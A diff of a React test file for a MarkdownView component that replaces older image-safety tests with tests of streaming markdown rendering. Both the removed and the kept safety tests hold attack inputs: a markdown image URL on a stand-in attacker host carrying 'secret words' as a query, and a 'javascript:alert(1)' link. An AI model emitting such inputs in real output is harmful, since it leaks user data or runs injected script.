@@ -1,34 +1,109 @@
-import { render, screen } from '@testing-library/react';
-import { describe, expect, it } from 'vitest';
+import { act, cleanup, render, screen } from '@testing-library/react';
+import { readFileSync } from 'node:fs';
+import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
 import { MarkdownView } from './markdown-view';
 
-// Audit finding 1: a reply's image made the browser fetch a remote address with no click.
-describe('images in a reply', () => {
-  it('shows a remote image as a link named by its alt text, never as an <img>', () => {
-    const { container } = render(<MarkdownView markdown={'See ![the chart](https://evil.example/x.png?q=secret+words) here.'} />);
-    expect(container.querySelector('img')).toBeNull();
-    const link = screen.getByRole('link', { name: 'the chart' });
-    expect(link).toHaveAttribute('href', 'https://evil.example/x.png?q=secret+words');
-    expect(link).toHaveAttribute('rel', 'noopener noreferrer');
+beforeEach(() => {
+  vi.stubGlobal('requestAnimationFrame', (callback: FrameRequestCallback) => {
+    callback(performance.now());
+    return 0;
+  });
+});
+
+afterEach(() => {
+  cleanup();
+  vi.unstubAllGlobals();
+});
+
+const REPLY = [
+  '# Steps',
+  '',
+  '1. Install:',
+  '',
+  '   ```sh',
+  '   npm i x',
+  '   ```',
+  '',
+  '2. Use it, as [the guide][g] says.',
+  '',
+  '| a | b |',
+  '|---|---|',
+  '| 1 | 2 |',
+  '',
+  '[g]: https://example.com/guide',
+  '',
+  'The end.',
+].join('\n');
+
+function streamInto(rerender: (ui: React.ReactElement) => void, text: string, from: number, size: number) {
+  for (let end = from + size; end < text.length; end += size) act(() => rerender(<MarkdownView markdown={text.slice(0, end)} streaming />));
+  act(() => rerender(<MarkdownView markdown={text} streaming={false} />));
+}
+
+describe('MarkdownView while a reply streams', () => {
+  it('keeps the DOM nodes of earlier blocks, so selection and scroll survive', () => {
+    // The heading and the list are finished once the table has started.
+    const start = REPLY.indexOf('| 1 |');
+    const { rerender } = render(<MarkdownView markdown={REPLY.slice(0, start)} streaming />);
+    const heading = screen.getByRole('heading', { name: 'Steps' });
+    const code = screen.getByText('npm i x');
+    const item = screen.getByText(/Use it/);
+    streamInto(rerender, REPLY, start, 3);
+    expect(screen.getByRole('heading', { name: 'Steps' })).toBe(heading);
+    expect(screen.getByText('npm i x')).toBe(code);
+    // Its reference became a link when the definition arrived; the rest of the item stayed.
+    expect(screen.getByText(/Use it/)).toBe(item);
+    expect(screen.getAllByRole('list')).toHaveLength(1);
+    expect(screen.getByRole('link', { name: 'the guide' })).toHaveAttribute('href', 'https://example.com/guide');
   });
 
-  it('names the link by its address when the image has no alt text', () => {
-    render(<MarkdownView markdown={'![](https://example.com/a.png)'} />);
-    expect(screen.getByRole('link', { name: 'https://example.com/a.png' })).toBeInTheDocument();
+  it('shows an open code fence as code at once', () => {
+    render(<MarkdownView markdown={'Run:\n\n```sh\nnpm i'} streaming />);
+    expect(screen.getByText('npm i').closest('pre')).not.toBeNull();
   });
 
-  it('shows only the alt text for an unsafe or relative-protocol address, and for reference images', () => {
-    const markdown = ['![one](javascript:alert(1))', '![two](//evil.example/x.png)', '![three][ref]', '', '[ref]: https://evil.example/y.png'].join('\n');
-    const { container } = render(<MarkdownView markdown={markdown} />);
-    expect(container.querySelector('img')).toBeNull();
-    expect(screen.getByText('one')).not.toHaveAttribute('href');
-    expect(screen.getByText('two')).not.toHaveAttribute('href');
-    expect(screen.getByRole('link', { name: 'three' })).toHaveAttribute('href', 'https://evil.example/y.png');
+  it('never shows a table as raw pipes while its first rows arrive', () => {
+    const { container, rerender } = render(<MarkdownView markdown={'Data:\n\n| a | b |'} streaming />);
+    expect(container.textContent).not.toContain('|');
+    act(() => rerender(<MarkdownView markdown={'Data:\n\n| a | b |\n|---|--'} streaming />));
+    expect(container.textContent).not.toContain('|');
+    act(() => rerender(<MarkdownView markdown={'Data:\n\n| a | b |\n|---|---|\n| 1'} streaming />));
+    expect(screen.getByRole('table')).toBeInTheDocument();
+    expect(container.textContent).not.toContain('|');
   });
 
-  it('keeps an image inside a link as the link’s text, with no <img>', () => {
-    const { container } = render(<MarkdownView markdown={'[![badge](https://evil.example/b.svg)](https://example.com)'} />);
+  it('shows open emphasis, code and links as they will be, without their raw markers', () => {
+    const { container } = render(<MarkdownView markdown={'Use **bold, `code and [the guide](https://example.com/gu'} streaming />);
+    expect(container.querySelector('strong')).toHaveTextContent('bold, code and [the guide](https://example.com/gu');
+    expect(container.querySelector('strong code')).toHaveTextContent('code and [the guide](https://example.com/gu');
+    expect(container.textContent).not.toContain('*');
+  });
+
+  it('shows a link whose URL is still arriving as its text', () => {
+    const { container } = render(<MarkdownView markdown={'See [the guide](https://example.com/gu'} streaming />);
+    expect(container.textContent).toBe('See the guide');
+  });
+
+  it('shows the held-back text when the reply ends', () => {
+    const { rerender } = render(<MarkdownView markdown="a | b" streaming />);
+    act(() => rerender(<MarkdownView markdown="| a | b |" streaming={false} />));
+    expect(screen.getByText('| a | b |')).toBeInTheDocument();
+  });
+});
+
+describe('MarkdownView safety', () => {
+  it('shows an image as a link to it, never loading it', () => {
+    const { container } = render(<MarkdownView markdown="![a cat](https://example.com/cat.png) ![x](javascript:alert(1))" />);
     expect(container.querySelector('img')).toBeNull();
-    expect(container.textContent).toContain('badge');
+    expect(screen.getByRole('link', { name: 'a cat' })).toHaveAttribute('href', 'https://example.com/cat.png');
+    expect(screen.queryByRole('link', { name: 'x' })).toBeNull();
+  });
+});
+
+describe('the highlighting theme', () => {
+  it('only colours tokens, so a code block keeps its size when its colours arrive', () => {
+    const theme = readFileSync('src/client/reply/markdown/highlight-theme.css', 'utf8');
+    const properties = [...theme.replace(/\/\*[\s\S]*?\*\//g, '').matchAll(/([a-z-]+)\s*:/g)].map((m) => m[1]);
+    expect(new Set(properties)).toEqual(new Set(['color', 'background-color']));
   });
 });
